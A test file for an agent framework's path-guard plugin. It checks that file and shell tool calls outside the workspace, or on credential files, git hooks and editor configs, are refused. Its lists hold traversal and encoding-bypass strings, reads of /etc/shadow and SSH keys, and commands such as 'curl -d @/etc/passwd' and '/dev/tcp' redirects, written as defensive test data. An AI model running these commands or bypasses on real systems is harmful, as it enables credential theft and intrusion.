import { mkdir, rm, symlink, writeFile } from "node:fs/promises";
import { homedir } from "node:os";
import path from "node:path";
import * as fc from "fast-check";
import { Type } from "typebox";
import { expect, test } from "vitest";
import { definePlugin, defineTool, Tools } from "@gantry/sdk";
import { isInside } from "@gantry/sdk/node";
import { startTestHost, type TestHost } from "@gantry/sdk/testing";
import commands from "../guard-commands/index.ts";
import guard from "./index.ts";

const input = Type.Object({ path: Type.String() });
const run = async () => "done";
const tools = definePlugin({
  name: "tool-some",
  provides: [Tools],
  setup(host) {
    for (const access of ["read", "write"] as const) {
      host.provide(
        Tools,
        defineTool({
          name: access,
          description: "A file.",
          input,
          run,
          effects: (args) => ({ paths: [{ path: args.path, access }] }),
        }),
      );
    }
    host.provide(
      Tools,
      defineTool({
        name: "sh",
        description: "A command.",
        input,
        run,
        effects: (args) => ({ commands: [args.path] }),
      }),
    );
  },
});
const start = (config: Record<string, unknown> = {}) =>
  startTestHost({ plugins: [guard, commands, tools], config });

async function answer(host: TestHost, tool: "read" | "write" | "sh", text: string): Promise<string> {
  const [opinion] = (await host.explain(tool, { path: text })).filter(({ by }) => by === "guard-paths");
  return opinion?.outcome ? `${opinion.outcome.verdict} ${opinion.outcome.code}` : "allow";
}
async function wrong(host: TestHost, tool: "read" | "write" | "sh", list: readonly string[], right: string) {
  const answers = await Promise.all(list.map(async (one) => [one, await answer(host, tool, one)] as const));
  return answers.filter(([, one]) => !one.startsWith(right));
}

const outside = [
  "/",
  "/usr",
  "/tmp",
  "/root",
  "/sys",
  "/proc",
  "/lib",
  "/sbin",
  "/var",
  "/opt",
  "/etc/shadow",
  "/root/.bashrc",
  "/anything",
  "/usr/bin/env",
  "/proc/self/environ",
  "/proc/self/root/etc/passwd",
  "/dev/sda",
  "/dev/null",
  "/var/run/docker.sock",
  "//etc/passwd",
  "/./etc/passwd",
  "..",
  "../outside.png",
  "../etc/passwd",
  "../../etc/passwd",
  "../../../etc",
  "foo/../../../etc/shadow",
  "../../root/.ssh/id_rsa",
  "./../x",
  "~",
  "~/.ssh",
  "~/.ssh/id_rsa",
  "~/.aws",
  "~/.gnupg",
  "~/.config",
  "~/x",
  "\0",
  "file\0.txt",
  "safe\0/../../../etc/passwd",
  "..%2fetc%2fpasswd",
  "foo/..%2f..%2fetc/passwd",
  "..%252fetc",
  "%2e%2e/x",
  "%2fetc%2fpasswd",
  "..%c0%afetc",
  "..%00/x",
  "..%5cx",
  "..\\..\\etc",
  "..\u2215etc",
  "..\uff0fetc",
  "..\u2044etc",
  "\uff0e\uff0e/x",
  "\u2024\u2024/x",
  "..\u200b/x",
  ".\u200b./x",
];
const sensitive = [
  ".env",
  ".env.local",
  ".ENV",
  "sub/.env",
  ".env.production",
  ".envrc",
  "id_rsa",
  "ID_RSA",
  "id_ed25519",
  "id_ecdsa_sk",
  "x.key",
  "tls/cert.pem",
  "x.pfx",
  "x.p12",
  "x.netrc",
  ".netrc",
  ".pypirc",
  ".git-credentials",
  "credentials",
  "credentials.json",
  "auth-profiles.json",
  ".secret_key",
  ".kube/config",
  ".aws/credentials",
  ".ssh/config",
  ".azure/x",
  ".gnupg/pubring.kbx",
  "ops/.secrets/runtime.txt",
  ".env.",
  ".env ",
  "id_rsa..",
  "x.PEM",
  "%2eenv",
  "\uff0eenv",
  "id%5frsa",
  ".e\u200bnv",
];
const inside = [
  "x",
  "./x",
  "a/b/../c",
  "a//b",
  "..x",
  "...",
  "a..b/c",
  "notes.md",
  ".gitignore",
  ".env.example",
  "keys.ts",
  "100%.txt",
  "a%20b",
  "ünï.txt",
  "key",
  "environment",
];

test("SEC-05: paths outside the workspace are refused for reading and writing, in every spelling", async () => {
  await using host = await start();
  expect(await wrong(host, "read", outside, "refuse PATH_OUTSIDE")).toEqual([]);
  expect(await wrong(host, "write", outside, "refuse PATH_OUTSIDE")).toEqual([]);
});

test("SEC-05: files that hold credentials by their name are refused inside the workspace", async () => {
  await using host = await start();
  expect(await wrong(host, "read", sensitive, "refuse PATH_SENSITIVE")).toEqual([]);
  expect(await wrong(host, "write", sensitive, "refuse PATH_SENSITIVE")).toEqual([]);
  const obeyed = [
    ".git/hooks/pre-commit",
    ".git/config",
    "sub/.git/hooks/x",
    ".git",
    "sub/.git",
    ".git/modules/a/hooks/x",
    ".git/config.worktree",
    ".gitconfig",
    ".config/git/config",
    ".wgetrc",
    ".psqlrc",
    "AGENTS.md",
    "sub/agents.md",
  ];
  expect(await wrong(host, "write", obeyed, "refuse PATH_SENSITIVE")).toEqual([]);
});

test("SEC-05: ordinary paths in the workspace are open, written in full too", async () => {
  await using host = await start();
  const full = inside.map((one) => path.join(host.runtime.workspace, one));
  expect(await wrong(host, "read", [...inside, ...full, "."], "allow")).toEqual([]);
  expect(await wrong(host, "write", [...inside, ...full], "allow")).toEqual([]);
  expect(await answer(host, "read", ".git/config")).toBe("allow");
});

test("ERR-01: the refusal says `Path outside workspace`, the path and where to look", async () => {
  await using host = await start();
  const { decision, code, text } = await host.call("read", { path: "../x\u001b[2J" });
  expect([decision, code]).toEqual(["refused", "PATH_OUTSIDE"]);
  expect(text).toMatch(/^Path outside workspace: \.\.\/x\\u001b\[2J; see security\.workspace_path/);
});

test("SEC-05: links that lead out are followed, to files, to folders, in chains and to what does not exist yet", async () => {
  await using host = await start();
  const { workspace } = host.runtime;
  const beside = path.join(host.configDir, "beside");
  await mkdir(beside);
  await writeFile(path.join(beside, "canary"), "secret");
  await symlink(path.join(beside, "canary"), path.join(workspace, "to-file"));
  await symlink(beside, path.join(workspace, "to-folder"));
  await symlink("to-folder", path.join(workspace, "chain"));
  await symlink(path.join(beside, "new"), path.join(workspace, "dangling"));
  await symlink("/", path.join(workspace, "root"));
  await mkdir(path.join(workspace, "real"));
  await symlink("real", path.join(workspace, "to-real"));
  const links = [
    "to-file",
    "to-folder/canary",
    "chain/canary",
    "chain/new/x",
    "dangling",
    "root/etc/passwd",
    "to-folder",
  ];
  for (const tool of ["read", "write"] as const)
    expect(await wrong(host, tool, links, "refuse PATH_OUTSIDE")).toEqual([]);
  expect(
    await wrong(
      host,
      "sh",
      [...links.map((one) => `cat ${one}`), "ls > dangling", "cd chain"],
      "refuse PATH_OUTSIDE",
    ),
  ).toEqual([]);
  expect(await wrong(host, "read", ["to-real", "to-real/x"], "allow")).toEqual([]);
  await writeFile(path.join(workspace, ".env"), "secret");
  await symlink(".env", path.join(workspace, "to-secret"));
  expect(await wrong(host, "read", ["to-secret"], "refuse PATH_SENSITIVE")).toEqual([]);
  expect(
    await wrong(
      host,
      "sh",
      ["cat to-secret", "cat < to-secret", "sh -c 'cat to-secret'"],
      "refuse PATH_SENSITIVE",
    ),
  ).toEqual([]);
});

test("SEC-11: nothing of <config_dir> but the workspace can be read or written, whatever the owner allows around it", async () => {
  for (const extra of [{}, { sandboxing: { allowed_read_paths: ["/"], allowed_write_paths: ["/"] } }]) {
    await using host = await start({ security: extra });
    const files = [
      "config.toml",
      "config.toml.bak",
      "audit.jsonl",
      "estop-state.json",
      "webauthn_credentials.json",
      "gantry.db",
      ".",
    ];
    const full = files.flatMap((one) => [
      path.join(host.configDir, one),
      path.join("..", one),
      `${host.runtime.workspace}/../${one}`,
    ]);
    for (const tool of ["read", "write"] as const)
      expect(await wrong(host, tool, full, "refuse PATH_OUTSIDE")).toEqual([]);
    const words = full.flatMap((one) => [
      `cat ${one}`,
      `ls > ${one}`,
      `sh -c 'cp x "${one}"'`,
      `sed -i s/a/b/ ${one}`,
    ]);
    expect(await wrong(host, "sh", words, "refuse PATH_OUTSIDE")).toEqual([]);
    expect(await answer(host, "write", "x")).toBe("allow");
  }
});

test("SEC-05: blocked_paths hold inside a workspace, and in folders that the owner opened", async () => {
  await using host = await start({
    security: {
      blocked_paths: ["$WORKSPACE/private", "~/.ssh"],
      sandboxing: { allowed_read_paths: ["/usr", "~"], allowed_write_paths: [] },
    },
  });
  expect(
    await wrong(host, "read", ["private", "private/x", "a/../private/x", "~/.ssh/x"], "refuse PATH_OUTSIDE"),
  ).toEqual([]);
  expect(await wrong(host, "read", ["private2", "~/notes", path.join(homedir(), "x")], "allow")).toEqual([]);
  expect(await wrong(host, "write", ["~/notes", "/usr/x"], "refuse PATH_OUTSIDE")).toEqual([]);
  expect(
    await wrong(
      host,
      "sh",
      ["cat private/x", "cat ~/.ssh/x", 'cat "$HOME"/x private/y'],
      "refuse PATH_OUTSIDE",
    ),
  ).toEqual([]);
});

test("SEC-05: paths that stand on command lines are held too: quoted, attached, nested, redirected", async () => {
  await using host = await start();
  const no = [
    "cat /etc/passwd",
    "cat '/etc/pass'wd",
    'cat /e"tc"/passwd',
    "cat $'\\x2fetc/passwd'",
    "cat ../x",
    "cat a/../../x",
    "ls ~",
    "ls ~/x",
    "ls ~root",
    "cat /etc/$x",
    "cat ../$x",
    "ls > /etc/x",
    "ls >> ../x",
    "cat < /etc/passwd",
    "ls 2> /tmp/x",
    "ls &> /tmp/x",
    "ls >& /tmp/x",
    "cat <> /tmp/x",
    "exec 3</etc/passwd",
    "ls > /dev/tcp/1.1.1.1/80",
    "sh -c 'cat /etc/passwd'",
    "echo $(cat /etc/passwd)",
    "env cat /etc/passwd",
    "find / -name x",
    "find . -exec cp {} /tmp/x \\;",
    "ls | xargs cp -t /tmp",
    "cp x --target-directory=/tmp",
    "grep -f/etc/passwd x",
    "grep x /etc/passwd",
    "grep -e x /etc/passwd",
    "curl -d @/etc/passwd x",
    "curl file:///etc/passwd",
    "tar -C/ -cf x .",
    "sed s/a/b/ /etc/passwd",
    "cat -A /etc/passwd",
    "cat -e /etc/passwd",
    "sort -m /etc/passwd",
    "curl -H @/etc/passwd x",
    "awk '{print}' /etc/passwd",
    "cd /",
    "cd ..",
    "cd a && cat ../../x",
    "cd a; cd ..; cat ../x",
    "pushd /tmp",
    "/opt/tool/run",
    "diff <(cat /etc/passwd) x",
    "cat <<EOF\n$(cat /etc/passwd)\nEOF",
    "dd of=/tmp/x",
  ];
  expect(await wrong(host, "sh", no, "refuse PATH_OUTSIDE")).toEqual([]);
  expect(
    await wrong(
      host,
      "sh",
      [
        "cat .env",
        "cat id_rsa",
        "cp x.pem y",
        "cat sub/credentials",
        "source .envrc",
        "ls .ssh",
        "echo x > .git/hooks/pre-commit",
        "echo x >> .git/config",
        "cp x .git/hooks/pre-commit",
        "cp x --target-directory=.git/hooks",
        "cp -t.git/hooks x",
        "cd .git && mv ../x config",
        "ls | tee -a .git/config",
        "sed -i s/a/b/ .git/config",
        "cp -r x .git",
        "echo 'gitdir: x' > .git",
        "ls | tee sub/.git",
        "echo x > .git/modules/a/config",
        "echo x > .git/config.worktree",
        "cp x .git/commondir",
        "echo x > .gitconfig",
        "cp x .gitconfig",
        "mkdir -p .config/git",
        "cd sub && mv x ../.psqlrc",
      ],
      "refuse PATH_SENSITIVE",
    ),
  ).toEqual([]);
});

test("SEC-05: text, patterns, system programs and devices on command lines are no alarm", async () => {
  await using host = await start();
  const ok = [
    "ls",
    "ls -la .",
    "cat a/b.txt",
    "cat ./a ../workspace/b",
    "echo /etc/passwd ../x",
    "printf '%s/../' x",
    "/usr/bin/env",
    "/bin/ls /usr/share",
    "cat /etc/hosts",
    "ls > /dev/null 2>&1",
    "grep -rn '/api/v1' src",
    "grep -e '/x' f",
    "sed -n '/start/,/end/p' f",
    "sed 's/a/\\/b/' f",
    "awk '/x/ { print }' f",
    "git log --format=%an",
    "git commit -m '/fix ../x'",
    "find . -path './a/*' -name '*.ts'",
    "cd a && cat ../x",
    "cd a/b; ls ../..",
    "tar -czf out.tgz src",
    "grep -r credentials .",
    "date +%Y/%m/%d",
    "git clone https://example.com/a/b",
    "mkdir -p a/b/c",
    "echo x > a/b",
    "jq '.a/.b' f",
    "sort -t '\\t' f",
    "cat .git/config",
    "ls .git/hooks",
    "mv .git elsewhere",
    "cat .gitconfig",
    "mkdir -p .config/app",
    "cut -d/ -f2 f",
    "awk -F/ '{ print $2 }' f",
    "sort -t/ -k2 f",
    "basename /a/b",
    "git log --grep=/etc",
  ];
  expect(await wrong(host, "sh", ok, "allow")).toEqual([]);
});

test("SEC-15: secret_files are the owner's list: by any spelling, in any folder, through links and patterns, and nothing else", async () => {
  await using host = await start({ security: { secret_files: ["*.vault", "keys/*", "!keys/public"] } });
  const { workspace } = host.runtime;
  await mkdir(path.join(workspace, "keys"));
  await writeFile(path.join(workspace, "a.vault"), "x");
  await writeFile(path.join(workspace, "keys/one"), "x");
  await symlink("a.vault", path.join(workspace, "link"));
  const closed = ["a.vault", "sub/b.vault", "A.VAULT", "a.vault.", "a%2evault", "keys/one", "link"];
  for (const tool of ["read", "write"] as const)
    expect(await wrong(host, tool, closed, "refuse PATH_SENSITIVE")).toEqual([]);
  expect(await wrong(host, "read", ["keys/public", ".env", "vault"], "allow")).toEqual([]);
  const commands = [
    "cat a.vault",
    "cat a.vaul?",
    "cat *.va*",
    "cat keys/o[mn]e",
    "cp ./link b",
    "< link cat",
    "cd keys; cat < one; cd ..",
  ];
  expect(await wrong(host, "sh", commands, "refuse PATH_SENSITIVE")).toEqual([]);
  expect(await wrong(host, "sh", ["cat .env", "cat keys/public", "cat *.txt"], "allow")).toEqual([]);
});

test("SEC-15: guarded_files may be read and are changed by no tool, nor by what a command line names", async () => {
  await using host = await start({ security: { guarded_files: [".vscode", "hooks/*.sh"] } });
  const closed = [".vscode/tasks.json", "sub/.vscode/x", ".VSCODE/x", "hooks/a.sh"];
  expect(await wrong(host, "write", closed, "refuse PATH_SENSITIVE")).toEqual([]);
  expect(await wrong(host, "read", closed, "allow")).toEqual([]);
  expect(await wrong(host, "write", ["hooks/a.txt", ".idea/x", ".bashrc"], "allow")).toEqual([]);
  const { workspace } = host.runtime;
  await mkdir(path.join(workspace, ".vscode"));
  await symlink(".vscode", path.join(workspace, "settings"));
  const changing = [
    "echo x > .vscode/tasks.json",
    "echo x > settings/tasks.json",
    "cp x settings/tasks.json",
    "cd hooks; echo x > a.sh; cd ..",
    "rm -r .vscode",
    "rm -r .vs*",
    "cp x hooks/a.sh",
    "sed -i s/a/b/ hooks/a.sh",
  ];
  expect(await wrong(host, "sh", changing, "refuse PATH_SENSITIVE")).toEqual([]);
  const reading = ["cat .vscode/tasks.json", "ls .vscode", "git add .vscode/x", "git diff hooks/a.sh"];
  expect(await wrong(host, "sh", reading, "allow")).toEqual([]);
});

test("SEC-15: by default the settings that start programs for whoever works in the folder are guarded", async () => {
  await using host = await start();
  const closed = [
    ".git/hooks/pre-commit",
    ".git/config",
    "sub/.git/hooks/x",
    ".vscode/tasks.json",
    ".idea/x.xml",
    ".bashrc",
    "sub/.zshrc",
    ".profile",
  ];
  expect(await wrong(host, "write", closed, "refuse PATH_SENSITIVE")).toEqual([]);
  expect(await wrong(host, "write", ["package.json", "Makefile", "README.md", "x.sh"], "allow")).toEqual([]);
});

test("SEC-05: a pattern with many stars is answered, whatever names stand in the folder", async () => {
  await using host = await start();
  await writeFile(path.join(host.runtime.workspace, "a".repeat(250)), "");
  expect(await answer(host, "sh", `cat ${"*a".repeat(40)}b`)).toBe("allow");
});

test("SEC-05: a command whose patterns or folders stand for more than can be checked is refused, in bounded time", async () => {
  await using host = await startTestHost({ plugins: [guard, commands, tools], timeouts: { hook: 45_000 } });
  const many = path.join(host.runtime.workspace, "many");
  await mkdir(many);
  await Promise.all(
    Array.from({ length: 3_000 }, (_, i) => writeFile(path.join(many, `${"a".repeat(99)}${i}`), "")),
  );
  expect(await answer(host, "sh", "cat many/*a*b many/a*c; touch many/*1")).toBe("allow");
  const changes = Array.from({ length: 400 }, (_, i) => `cd ../c${i}; echo x > f${i};`).join(" ");
  const deep = Array.from({ length: 250 }, (_, i) => `>${"d/".repeat(100)}${i}`).join(" ");
  const flat = Array.from({ length: 12_000 }, (_, i) => `>${i.toString(36)}`).join(" ");
  const much = [`cat ${"many/*a*b ".repeat(6_000)}`, `touch ${"many/* ".repeat(50)}`, `echo x ${deep}`];
  const tried = process.env["GANTRY_LONG"] ? [...much, `cd many; ${changes}`, `echo x ${flat}`] : much;
  expect(await wrong(host, "sh", tried, "refuse PATH_TOO_MUCH")).toEqual([]);
});

test("SEC-05: without a plugin that reads shell text, a command asks", async () => {
  await using host = await startTestHost({ plugins: [guard, tools] });
  expect(await answer(host, "sh", "ls")).toBe("ask PATH_UNREAD");
});

test("SEC-05: a path swapped for a link between the decision and the run does not run", async () => {
  const hook: { swap?: () => Promise<void> } = {};
  const late = definePlugin({
    name: "guard-late",
    taps: ["beforeToolCall"],
    setup: (host) => host.hooks.beforeToolCall.tap(() => hook.swap?.(), { order: "late" }),
  });
  await using host = await startTestHost({ plugins: [guard, late, tools] });
  const at = path.join(host.runtime.workspace, "x");
  await writeFile(at, "mine");
  expect(await host.call("read", { path: "x" })).toMatchObject({ decision: "allowed" });
  hook.swap = async () => {
    await rm(at);
    await symlink("/etc/passwd", at);
  };
  expect(await host.call("read", { path: "x" })).toMatchObject({ decision: "refused" });
});

test("SEC-05: no mixture of dots, slashes and encodings reaches beyond the workspace", async () => {
  await using host = await start();
  const { workspace } = host.runtime;
  const piece = fc.constantFrom(
    "..",
    ".",
    "/",
    "//",
    "a",
    "%2e",
    "%2f",
    "%252f",
    "\\",
    "~",
    "\uff0f",
    " ",
    "%00",
    "etc",
  );
  const property = fc.asyncProperty(fc.array(piece, { maxLength: 8 }), async (pieces) => {
    const written = pieces.join("");
    const decoded = decodeURIComponent(decodeURIComponent(written)).replaceAll("\\", "/");
    const escapes = [written, decoded].some(
      (one) => one.includes("\0") || !isInside(path.resolve(workspace, one), workspace),
    );
    return !escapes || (await answer(host, "read", written)) === "refuse PATH_OUTSIDE";
  });
  const report = await fc.check(property, { numRuns: process.env["GANTRY_LONG"] ? 20_000 : 300 });
  expect(fc.defaultReportMessage(report) ?? "held").toBe("held");
});
